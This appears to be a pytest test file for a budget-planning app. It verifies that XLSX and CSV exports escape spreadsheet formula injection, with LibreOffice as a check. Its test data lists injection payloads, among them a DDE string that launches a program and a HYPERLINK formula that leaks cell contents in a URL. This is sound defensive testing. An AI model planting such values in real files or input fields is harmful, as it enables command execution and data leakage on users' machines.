"""Nineteen texts that spreadsheets like to run, wherever one can write, in every format: none is run.

The negative control: the same texts in a plain CSV do become formulas.
"""

import csv
import re
import subprocess
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import replace
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from planner.catalogue.loader import load_catalogue
from planner.document import Document
from planner.domain.money_event import EventKind
from planner.domain.plan import Plan
from planner.domain.tertial import ForecastCell, Tertial
from planner.editing.measures import change_measures
from planner.editing.tertials import set_forecasts
from planner.exchange.csv_lists import CsvContent, Reader
from planner.exchange.export_input import AllocationExport
from planner.exchange.import_template import write_template
from planner.exporting import (
    document_export,
    document_history,
    write_export,
    write_history,
    write_list,
)
from tests.examples import (
    empty_plan,
    event,
    kr,
    with_events,
    with_frames,
    with_fund,
    with_measure,
    with_money,
)
from tests.libreoffice import needs_calc

EVIL = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0", "＝1+1"),
    *(" =1+1", "'=1+1", "vanlig", "-500", "+46 8 508 00 000", "http://example.org", "{=1+1}", "=", "#REF!"),
    '=HYPERLINK("http://127.0.0.1/?"&A1,"klick")',
)
TAME = tuple(f"text {number}" for number in range(len(EVIL)))
DAY = date(2024, 3, 1)


def plan_of(texts: tuple[str, ...]) -> Plan:
    """Return a plan in which each text is a title, a name, a note, a comment and whatever else one writes."""
    plan = empty_plan()
    for number, text in enumerate(texts):
        # Sources and boards differ in name; what matters is how the names begin.
        plan, fund = with_fund(plan, f"{text} {number}")
        plan = with_frames(plan, fund, {2024: kr(1000)})
        plan, measure = with_measure(
            plan,
            text,
            kind="lighting",
            responsible=text,
            note=text,
            project_code=text,
            operator=f"{text} {number}",
        )
        plan = with_money(plan, measure, fund, {2024: kr(100), 2025: kr(50.5)})
        words = {"dnr": text, "body": text, "voucher": text, "note": text}
        plan = with_events(
            plan,
            event(EventKind.GRANTED, measure, fund, kr(80), DAY, **words),
            event(EventKind.SPENT, measure, fund, kr(8), DAY, **words),
        )
        cell = ForecastCell(measure, fund, 2024, Tertial.T1)
        plan = plan.apply(set_forecasts(plan, {cell: {"amount_ore": kr(70), "comment": text}}))
    return plan


Writer = Callable[[Path, Document], None]
CATALOGUE = load_catalogue()


def _list(content: CsvContent, reader: Reader) -> Writer:
    return lambda path, document: write_list(path, _export(document), content, reader)


def _export(document: Document) -> AllocationExport:
    made = document_export(document, CATALOGUE, follow_up_year=2024)
    return replace(made, stamp=replace(made.stamp, author=next(iter(document.plan.measures.values())).title))


def _history(path: Path, document: Document) -> None:
    first = next(iter(document.plan.measures.values()))
    document.edit(change_measures(document.plan, [first.id], builder=first.title), reason=first.title)
    write_history(path, document_history(document, CATALOGUE))


FORMATS: Mapping[str, Writer] = {
    "fördelning.xlsx": lambda path, document: write_export(path, _export(document)),
    "historik.xlsx": _history,
    "mall.xlsx": lambda path, document: write_template(path, document.plan, ["=1+1", "Belysning"]),
    **{f"{content} {reader}.csv": _list(content, reader) for content in CsvContent for reader in Reader},
}


def written(folder: Path, name: str, texts: tuple[str, ...]) -> Path:
    folder.mkdir()
    with Document.create(folder / "plan.tplan", plan_of(texts)) as document:
        FORMATS[name](folder / name, document)
    return folder / name


@pytest.mark.parametrize("name", [name for name in FORMATS if name.endswith(".xlsx")])
def test_no_text_of_a_workbook_is_a_formula_or_a_link(tmp_path: Path, name: str) -> None:
    evil, tame = (written(tmp_path / which, name, texts) for which, texts in (("evil", EVIL), ("tame", TAME)))
    assert _formulas(evil) == _formulas(tame)
    with zipfile.ZipFile(evil) as archive:
        parts = [archive.read(part).decode() for part in archive.namelist() if "worksheets" in part]
    assert not any("hyperlink" in part.casefold() for part in parts)


def _formulas(path: Path) -> dict[str, int]:
    """Return how many formulas each sheet has: as many as the program wrote, whatever the texts are."""
    book = openpyxl.load_workbook(path)
    return {
        sheet.title: sum(cell.data_type == "f" for row in sheet.iter_rows() for cell in row) for sheet in book
    }


@pytest.mark.parametrize("name", [name for name in FORMATS if name.endswith(".csv")])
def test_no_text_of_a_list_begins_as_a_formula_does(tmp_path: Path, name: str) -> None:
    path = written(tmp_path / "evil", name, EVIL)
    delimiter = "," if "machines" in name else ";"
    with path.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file, delimiter=delimiter) for cell in row]
    texts = [cell for cell in cells if not re.fullmatch(r"-?\d+([.,]\d+)?", cell)]
    assert not [text for text in texts if text.startswith(tuple("=+-@\t\r\n＝＋－＠"))]
    assert any(text.startswith("'=") for text in texts)


@pytest.mark.soffice
@needs_calc
def test_libreoffice_finds_no_formula_in_any_format(tmp_path: Path) -> None:
    files = [written(tmp_path / str(number), name, EVIL) for number, name in enumerate(FORMATS)]
    control = tmp_path / "control.csv"
    with control.open("w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file, delimiter=";").writerows([text] for text in EVIL)
    workbooks = [path for path in files if path.suffix == ".xlsx"]
    machines = [path for path in files if "machines" in path.name]
    people = [path for path in files if path not in (*workbooks, *machines)]
    assert _found_by_libreoffice([control], tmp_path, ";")["control"] > 0
    assert set(_found_by_libreoffice(people, tmp_path, ";").values()) == {0}
    assert set(_found_by_libreoffice(machines, tmp_path, ",").values()) == {0}
    wanted = {path.stem: sum(_formulas(path).values()) for path in workbooks}
    assert _found_by_libreoffice(workbooks, tmp_path) == wanted


def _found_by_libreoffice(paths: list[Path], folder: Path, delimiter: str = "") -> dict[str, int]:
    """Return how many cells of each file LibreOffice takes for formulas."""
    out = folder / f"out-{paths[0].stem}"
    reading = [f"--infilter=CSV:{ord(delimiter)},34,76,1,,1053,false,true,false"] if delimiter else []
    command = ["soffice", "--headless", f"-env:UserInstallation={(folder / 'profile').as_uri()}", *reading]
    form = "fods:OpenDocument Spreadsheet Flat XML"
    subprocess.run(
        [*command, "--convert-to", form, "--outdir", str(out), *map(str, paths)],
        check=True,
        capture_output=True,
        timeout=120,
    )
    return {path.stem: len(re.findall("table:formula=", path.read_text("utf-8"))) for path in out.iterdir()}
